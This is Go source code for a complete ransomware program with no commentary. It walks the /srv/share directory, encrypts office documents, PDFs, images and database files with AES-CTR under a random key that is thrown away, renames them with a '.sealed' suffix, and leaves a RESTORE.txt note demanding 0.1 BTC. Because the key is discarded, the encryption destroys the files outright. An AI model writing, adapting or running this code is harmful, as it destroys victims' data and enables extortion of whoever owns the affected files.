package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

var kinds = ".doc.docx.xls.xlsx.pdf.png.jpg.sql.db.bak"

func seal(path string, s cipher.Stream) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	s.XORKeyStream(b, b)
	if err := os.WriteFile(path, b, 0o600); err != nil {
		return err
	}
	return os.Rename(path, path+".sealed")
}

func main() {
	key, iv := make([]byte, 32), make([]byte, 16)
	rand.Read(key)
	rand.Read(iv)
	blk, _ := aes.NewCipher(key)
	st := cipher.NewCTR(blk, iv)
	root := "/srv/share"
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.Contains(kinds, strings.ToLower(filepath.Ext(p))+".") {
			seal(p, st)
		}
		return nil
	})
	os.WriteFile(filepath.Join(root, "RESTORE.txt"), []byte("Files sealed. Contact seal@restore.example, 0.1 BTC.\n"), 0o644)
}
